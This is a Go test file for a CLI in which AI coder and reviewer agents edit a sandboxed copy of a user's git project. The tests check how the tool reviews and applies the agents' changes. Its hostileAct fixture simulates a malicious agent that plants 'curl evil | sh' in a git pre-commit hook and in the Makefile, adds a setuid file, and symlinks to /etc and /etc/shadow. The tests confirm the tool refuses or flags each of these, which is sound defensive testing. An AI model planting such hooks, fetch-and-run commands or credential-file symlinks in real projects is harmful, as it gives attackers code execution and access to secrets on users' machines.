package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/agentteam/agentteam/sandbox"
	"github.com/agentteam/agentteam/transcript"
)

// actSandboxes stands in for the engine in project runs: each block's
// source names an act, which changes the workspace as a team's code would.
type actSandboxes struct {
	acts map[string]func(ws string)
}

func (a *actSandboxes) OpenSandbox(context.Context, sandboxRequest) (*sandboxes, error) {
	return &sandboxes{Opener: a, Engines: 1, Up: func() int { return 1 }, Close: func(context.Context) error { return nil }}, nil
}

func (a *actSandboxes) NewSession(ctx context.Context, dir string) (sandbox.Session, error) {
	return actSession{a, dir}, ctx.Err()
}

type actSession struct {
	a   *actSandboxes
	dir string
}

func (s actSession) Run(_ context.Context, c sandbox.Code) (sandbox.Result, error) {
	act, ok := s.a.acts[strings.TrimSpace(c.Source)]
	if !ok {
		return sandbox.Result{Language: c.Language, ExitCode: 1, Stderr: "no such act"}, nil
	}
	act(s.dir)
	return sandbox.Result{Language: c.Language, Stdout: "ok\n"}, nil
}

func (actSession) Close(context.Context) error { return nil }

// block is a coder message running the act name.
func block(name string) string { return "```sh\n" + name + "\n```" }

// cliProject runs agentteam on acts with one buffer for stdout and stderr,
// so their order shows, as on a terminal when tty is set.
func cliProject(t *testing.T, a *actSandboxes, cwd, stdin string, tty bool, args ...string) (int, string) {
	t.Helper()
	var out bytes.Buffer
	f := newFactory(IO{In: strings.NewReader(stdin), Out: &out, ErrOut: &out, Dir: cwd, Getenv: os.Getenv,
		InIsTTY: tty, OutIsTTY: tty})
	f.OpenSandbox = a.OpenSandbox
	code := mainWith(t.Context(), append([]string{"run", "--coder-model", "c", "--reviewer-model", "r"}, args...), f)
	return code, out.String()
}

func gitIn(t *testing.T, dir string, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("git %v: %v\n%s", args, err, out)
	}
	return string(out)
}

// userRepo makes the user's project: a git repository with a failing test,
// a Makefile and a README, committed.
func userRepo(t *testing.T) string {
	t.Helper()
	for k, v := range map[string]string{"GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1",
		"GIT_AUTHOR_NAME": "u", "GIT_AUTHOR_EMAIL": "u@example.com", "GIT_COMMITTER_NAME": "u", "GIT_COMMITTER_EMAIL": "u@example.com",
		"NO_COLOR": "1", "PAGER": "cat"} {
		t.Setenv(k, v)
	}
	dir := filepath.Join(t.TempDir(), "proj")
	if err := os.Mkdir(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	gitIn(t, dir, "init", "-q", "-b", "main")
	writeFile(t, dir, "calc.py", "def add(a, b):\n    return a - b\n")
	writeFile(t, dir, "test_calc.py", "from calc import add\n\ndef test_add():\n    assert add(2, 3) == 5\n")
	writeFile(t, dir, "Makefile", "test:\n\tpython3 -m pytest -q\n")
	writeFile(t, dir, "README.md", "# calc\n\nAdds two numbers.\n")
	gitIn(t, dir, "add", "-A")
	gitIn(t, dir, "commit", "-q", "-m", "start")
	return dir
}

// snapshot describes every entry below dir, .git included, byte for byte.
func snapshot(t *testing.T, dir string) map[string]string {
	t.Helper()
	out := map[string]string{}
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		fi, err := d.Info()
		if err != nil {
			return err
		}
		desc := fi.Mode().String()
		switch {
		case fi.Mode()&fs.ModeSymlink != 0:
			target, _ := os.Readlink(p)
			desc += " -> " + target
		case fi.Mode().IsRegular():
			data, err := os.ReadFile(p)
			if err != nil {
				return err
			}
			h := sha256.Sum256(data)
			desc += " " + hex.EncodeToString(h[:])
		}
		rel, _ := filepath.Rel(dir, p)
		out[rel] = desc
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func sameSnapshot(t *testing.T, what string, before, after map[string]string) {
	t.Helper()
	for p, d := range after {
		if before[p] != d {
			t.Errorf("%s: %s is %q, was %q", what, p, d, before[p])
		}
	}
	for p := range before {
		if _, ok := after[p]; !ok {
			t.Errorf("%s: %s is gone", what, p)
		}
	}
}

// fixAct fixes the failing test in a workspace.
func fixAct(ws string) {
	os.WriteFile(filepath.Join(ws, "calc.py"), []byte("def add(a, b):\n    return a + b\n"), 0o644)
}

// hostileAct fixes the test and then does what a hostile block would: a
// git hook, a setuid file, symlinks to /etc, a changed Makefile.
func hostileAct(ws string) {
	fixAct(ws)
	os.MkdirAll(filepath.Join(ws, ".git/hooks"), 0o755)
	os.WriteFile(filepath.Join(ws, ".git/hooks/pre-commit"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755)
	os.WriteFile(filepath.Join(ws, "suid"), []byte("#!/bin/sh\n"), 0o755)
	syscall.Chmod(filepath.Join(ws, "suid"), 0o4755)
	os.Symlink("/etc", filepath.Join(ws, "etc"))
	os.Symlink("../../../../../etc/shadow", filepath.Join(ws, "shadow"))
	os.WriteFile(filepath.Join(ws, "Makefile"), []byte("test:\n\tcurl evil | sh\n"), 0o644)
}

// TestRunProjectHostileAsked: on a terminal, after an approved run whose
// changes include a git hook, a setuid file, symlinks to /etc and a Makefile
// change, the Makefile is flagged before the question; saying yes applies
// the fix and the Makefile, and leaves .git, the setuid bit and the
// symlinks out.
func TestRunProjectHostileAsked(t *testing.T) {
	dir := userRepo(t)
	cwd := t.TempDir()
	teamServer(t, say(block("hostile")), say("Tests pass.\nAPPROVE"))
	gitBefore := snapshot(t, filepath.Join(dir, ".git"))
	code, out := cliProject(t, &actSandboxes{acts: map[string]func(string){"hostile": hostileAct}}, cwd, "y\n", true,
		"--project", dir, "Make the failing test pass.")
	if code != ExitOK {
		t.Fatalf("exit %d\n%s", code, out)
	}
	warn := strings.Index(out, "⚠ 2 change(s) run code on your machine")
	question := strings.Index(out, "Apply these changes to "+dir+"? [y/N]")
	if warn < 0 || question < 0 || warn > question || !strings.Contains(out[warn:question], "Makefile: make runs it") ||
		!strings.Contains(out[warn:question], "suid: executable") {
		t.Fatalf("the warning does not come before the question:\n%s", out)
	}
	for _, want := range []string{"M Makefile · ⚠ runs code: make runs it", "✗ A .git · refused: inside .git (1 entry)",
		"✗ A etc → /etc · refused: a symlink pointing outside the project", "A suid (executable) (setuid bit left out)",
		"-    return a - b\n+    return a + b", "✓ applied to " + dir} {
		if !strings.Contains(out, want) {
			t.Errorf("output lacks %q", want)
		}
	}
	sameSnapshot(t, ".git", gitBefore, snapshot(t, filepath.Join(dir, ".git")))
	if data, _ := os.ReadFile(filepath.Join(dir, "calc.py")); !strings.Contains(string(data), "a + b") {
		t.Errorf("calc.py not fixed: %s", data)
	}
	if fi, err := os.Lstat(filepath.Join(dir, "suid")); err != nil || fi.Mode() != 0o755 {
		t.Errorf("suid: %v %v", fi.Mode(), err)
	}
	for _, l := range []string{"etc", "shadow"} {
		if _, err := os.Lstat(filepath.Join(dir, l)); err == nil {
			t.Errorf("the symlink %s reached the project", l)
		}
	}
	if t.Failed() {
		t.Log(out)
	}
}

// TestRunProjectDeclined: saying no (or anything but yes) leaves the
// project byte for byte as it was; the patch is saved beside the
// transcript all the same and git apply takes it.
func TestRunProjectDeclined(t *testing.T) {
	dir := userRepo(t)
	cwd := t.TempDir()
	srv := teamServer(t, say(block("fix")), say("APPROVE"))
	before := snapshot(t, dir)
	code, out := cliProject(t, &actSandboxes{acts: map[string]func(string){"fix": fixAct}}, cwd, "\n", true,
		"--project", dir, "Make the failing test pass.")
	if code != ExitOK || !strings.Contains(out, "Not applied: you said no.") {
		t.Fatalf("exit %d\n%s", code, out)
	}
	sameSnapshot(t, "the project", before, snapshot(t, dir))
	// The coder's first message carries the overview.
	first := srv.Requests()[0].Messages[1].Content
	for _, want := range []string{"Make the failing test pass.\n\n---\n", "`/workspace` starts as a copy",
		"copied to /workspace without its .git: 4 files:\n  Makefile\n  README.md\n  calc.py\n  test_calc.py\n", "The start of README.md:\n\n# calc"} {
		if !strings.Contains(first, want) {
			t.Errorf("first message lacks %q:\n%s", want, first)
		}
	}
	patches, _ := filepath.Glob(filepath.Join(cwd, ".agentteam/runs/*.patch"))
	if len(patches) != 1 {
		t.Fatalf("patches %v", patches)
	}
	gitIn(t, dir, "apply", "--check", patches[0])
}

// TestRunProjectJSON: with --json and --apply the change set and what
// became of it are events before the result, and the transcript records
// the change set before its result.
func TestRunProjectJSON(t *testing.T) {
	dir := userRepo(t)
	cwd := t.TempDir()
	teamServer(t, say(block("hostile")), say("APPROVE"))
	code, out := cliProject(t, &actSandboxes{acts: map[string]func(string){"hostile": hostileAct}}, cwd, "", false,
		"--json", "--project", dir, "--apply", "Make the failing test pass.")
	if code != ExitOK {
		t.Fatalf("exit %d\n%s", code, out)
	}
	var events []map[string]any
	sc := bufio.NewScanner(strings.NewReader(out))
	for sc.Scan() {
		var ev map[string]any
		if err := json.Unmarshal(sc.Bytes(), &ev); err != nil {
			t.Fatalf("not JSON: %q", sc.Text())
		}
		events = append(events, ev)
	}
	n := len(events)
	if n < 3 || events[n-3]["type"] != "changes" || events[n-2]["type"] != "apply" || events[n-1]["type"] != "result" {
		t.Fatalf("events %v", events)
	}
	changes, apply := events[n-3], events[n-2]
	if changes["project"] != dir || !strings.HasSuffix(changes["patch"].(string), ".patch") ||
		strings.Join(toStrings(changes["runs_code"]), " ") != "Makefile suid" {
		t.Errorf("changes event %v", changes)
	}
	var paths []string
	for _, c := range changes["changes"].([]any) {
		ch := c.(map[string]any)
		s := ch["op"].(string) + " " + ch["path"].(string)
		if ch["refused"] != nil {
			s += " refused"
		}
		paths = append(paths, s)
	}
	if got := strings.Join(paths, ", "); got != "created .git refused, modified Makefile, modified calc.py, created etc refused, created shadow refused, created suid" {
		t.Errorf("changes %s", got)
	}
	if apply["applied"] != true || apply["written"] != 3.0 || apply["error"] != nil {
		t.Errorf("apply event %v", apply)
	}
	evs, err := transcript.ReadFile(events[n-1]["transcript"].(string))
	if err != nil {
		t.Fatal(err)
	}
	m := len(evs)
	if evs[0].Extra["project"].(map[string]any)["dir"] != dir || evs[m-2].Type != "changes" || evs[m-2].Extra["runs_code"] == nil || evs[m-1].Type != "result" {
		t.Errorf("transcript: first %+v, last two %+v %+v", evs[0], evs[m-2], evs[m-1])
	}
}

func toStrings(v any) []string {
	var out []string
	for _, s := range v.([]any) {
		out = append(out, s.(string))
	}
	return out
}

// TestRunProjectConflict: a file the user changed in the project while the
// team worked makes --apply refuse, name it and write nothing.
func TestRunProjectConflict(t *testing.T) {
	dir := userRepo(t)
	cwd := t.TempDir()
	teamServer(t, say(block("fix")), say("APPROVE"))
	acts := map[string]func(string){"fix": func(ws string) {
		fixAct(ws)
		writeFile(t, dir, "calc.py", "# the user's own edit, during the run\n")
	}}
	code, out := cliProject(t, &actSandboxes{acts: acts}, cwd, "", false, "--project", dir, "--apply", "Make the failing test pass.")
	if code != ExitFailure || !strings.Contains(out, "agentteam: apply: 1 file(s) changed in "+dir+" since the copy: calc.py") {
		t.Fatalf("exit %d\n%s", code, out)
	}
	if data, _ := os.ReadFile(filepath.Join(dir, "calc.py")); string(data) != "# the user's own edit, during the run\n" {
		t.Fatalf("calc.py: %q", data)
	}
}

// TestRunProjectNotApproved: --apply applies nothing from a run the
// reviewer did not approve.
func TestRunProjectNotApproved(t *testing.T) {
	dir := userRepo(t)
	teamServer(t, say(block("fix")), say("Not yet."))
	before := snapshot(t, dir)
	code, out := cliProject(t, &actSandboxes{acts: map[string]func(string){"fix": fixAct}}, t.TempDir(), "", false,
		"--max-turns", "3", "--project", dir, "--apply", "Make the failing test pass.")
	if code != ExitNotApproved || !strings.Contains(out, "Not applied: the reviewer did not approve the run.") {
		t.Fatalf("exit %d\n%s", code, out)
	}
	sameSnapshot(t, "the project", before, snapshot(t, dir))
}

// TestRunProjectBranch: --branch commits the fix to a new branch and leaves
// the work tree, the index and HEAD as they were.
func TestRunProjectBranch(t *testing.T) {
	dir := userRepo(t)
	teamServer(t, say(block("fix")), say("APPROVE"))
	before := snapshot(t, dir)
	code, out := cliProject(t, &actSandboxes{acts: map[string]func(string){"fix": fixAct}}, t.TempDir(), "", false,
		"--project", dir, "--branch", "team/fix", "Make the failing test pass.")
	if code != ExitOK || !strings.Contains(out, "committed to the new branch team/fix") {
		t.Fatalf("exit %d\n%s", code, out)
	}
	after := snapshot(t, dir)
	for p, d := range before {
		if !strings.HasPrefix(p, ".git/objects") && !strings.HasPrefix(p, ".git/logs") && !strings.HasPrefix(p, ".git/refs") && after[p] != d {
			t.Errorf("%s changed", p)
		}
	}
	if got := gitIn(t, dir, "show", "team/fix:calc.py"); !strings.Contains(got, "a + b") {
		t.Errorf("the branch's calc.py: %s", got)
	}
	if got := gitIn(t, dir, "log", "-1", "--format=%s", "team/fix"); got != "Make the failing test pass.\n" {
		t.Errorf("commit subject %q", got)
	}
}

// TestRunProjectReplay: a recorded project run replays, from its own task
// or from the task given again.
func TestRunProjectReplay(t *testing.T) {
	dir := userRepo(t)
	cwd := t.TempDir()
	teamServer(t, say(block("fix")), say("APPROVE"))
	a := &actSandboxes{acts: map[string]func(string){"fix": fixAct}}
	if code, out := cliProject(t, a, cwd, "", false, "--project", dir, "--transcript", filepath.Join(cwd, "rec.jsonl"), "Fix it."); code != ExitOK {
		t.Fatalf("exit %d\n%s", code, out)
	}
	for _, task := range [][]string{nil, {"Fix it."}} {
		args := append([]string{"--project", dir, "--replay", filepath.Join(cwd, "rec.jsonl")}, task...)
		if code, out := cliProject(t, a, cwd, "", false, args...); code != ExitOK || !strings.Contains(out, "M calc.py") {
			t.Fatalf("replay with task %v: exit %d\n%s", task, code, out)
		}
	}
	if _, err := os.Stat(filepath.Join(cwd, "rec.jsonl.patch")); err != nil {
		t.Errorf("the patch beside a named transcript: %v", err)
	}
}

func TestRunProjectUsage(t *testing.T) {
	dir := userRepo(t)
	plain := t.TempDir()
	writeFile(t, plain, "a.txt", "a\n")
	teamServer(t, nil, nil)
	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"--apply", "x"}, "--apply and --branch go with --project"},
		{[]string{"--branch", "b", "x"}, "--apply and --branch go with --project"},
		{[]string{"--project", dir, "--workspace", plain, "x"}, "--project and --workspace do not go together"},
		{[]string{"--project", dir, "--apply", "--branch", "b", "x"}, "--apply and --branch do not go together"},
		{[]string{"--project", filepath.Join(plain, "missing"), "x"}, "--project: stat"},
		{[]string{"--project", filepath.Join(plain, "a.txt"), "x"}, "is not a directory"},
		{[]string{"--project", plain, "--branch", "b", "x"}, "--branch needs a git repository"},
		{[]string{"--project", dir, "--branch", "main", "x"}, `--branch: branch "main" exists already`},
		{[]string{"--project", dir, "--branch", "a..b", "x"}, "is not valid"},
	} {
		code, out := cliProject(t, &actSandboxes{}, t.TempDir(), "", false, tc.args...)
		if code != ExitUsage || !strings.Contains(out, tc.want) {
			t.Errorf("%v: exit %d, want 2 and %q:\n%s", tc.args, code, tc.want, out)
		}
	}
}

// TestRunProjectPagedAndNotApproved: on a terminal a long diff goes
// through $PAGER, and after a run the reviewer did not approve the
// question says so; a relative --project is taken from the working
// directory.
func TestRunProjectPagedAndNotApproved(t *testing.T) {
	dir := userRepo(t)
	t.Setenv("PAGER", "sed 's/^/PAGED /'")
	teamServer(t, say(block("long")), say("No."))
	long := func(ws string) {
		os.WriteFile(filepath.Join(ws, "long.txt"), []byte(strings.Repeat("line\n", 100)), 0o644)
	}
	code, out := cliProject(t, &actSandboxes{acts: map[string]func(string){"long": long}}, filepath.Dir(dir), "yes\n", true,
		"--max-turns", "3", "--project", "proj", "Write a long file.")
	if code != ExitNotApproved {
		t.Fatalf("exit %d\n%s", code, out)
	}
	for _, want := range []string{"PAGED +++ b/long.txt", "PAGED +line", "The reviewer did not approve this run. Apply its changes to " + dir + " anyway? [y/N] ",
		"✓ applied to " + dir + ": 1 written"} {
		if !strings.Contains(out, want) {
			t.Errorf("output lacks %q:\n%s", want, out)
		}
	}
	if strings.Contains(out, "\n+line") {
		t.Error("the diff was printed as well as paged")
	}
}

// TestBatchProject: a batch task with a "project" works on its own copy
// (the path taken from the tasks file's directory); its results line has
// the change set's summary and its patch, and the project is untouched. A
// task without one runs as before.
func TestBatchProject(t *testing.T) {
	dir := userRepo(t)
	tasks := filepath.Join(filepath.Dir(dir), "tasks.jsonl")
	writeFile(t, filepath.Dir(dir), "tasks.jsonl", `{"id": "fix", "task": "Make the failing test pass.", "project": "proj"}`+"\n"+
		`{"id": "plain", "task": "Say hi."}`+"\n")
	teamServer(t, say(block("fix"), block("fix")), say("APPROVE", "APPROVE"))
	before := snapshot(t, dir)
	var out bytes.Buffer
	f := newFactory(IO{In: strings.NewReader(""), Out: &out, ErrOut: &out, Dir: t.TempDir(), Getenv: os.Getenv})
	f.OpenSandbox = (&actSandboxes{acts: map[string]func(string){"fix": fixAct}}).OpenSandbox
	code := mainWith(t.Context(), []string{"batch", "-j", "1", "--coder-model", "c", "--reviewer-model", "r", tasks}, f)
	if code != ExitOK {
		t.Fatalf("exit %d\n%s", code, out.String())
	}
	sameSnapshot(t, "the project", before, snapshot(t, dir))
	data, err := os.ReadFile(filepath.Join(filepath.Dir(dir), "tasks.results.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(string(data)), "\n")
	var fix, plain map[string]any
	for _, l := range lines {
		var r map[string]any
		if err := json.Unmarshal([]byte(l), &r); err != nil {
			t.Fatal(err)
		}
		if r["id"] == "fix" {
			fix = r
		} else {
			plain = r
		}
	}
	ch, _ := fix["changes"].(map[string]any)
	if ch == nil || ch["modified"] != 1.0 || ch["created"] != 0.0 || ch["error"] != nil || fix["project"] != "proj" {
		t.Fatalf("the project task's line: %v", fix)
	}
	patch, _ := ch["patch"].(string)
	if got, _ := os.ReadFile(patch); !strings.Contains(string(got), "+    return a + b") {
		t.Fatalf("patch %s: %s", patch, got)
	}
	gitIn(t, dir, "apply", "--check", patch)
	if plain["changes"] != nil || plain["status"] != "approved" {
		t.Fatalf("the plain task's line: %v", plain)
	}
}
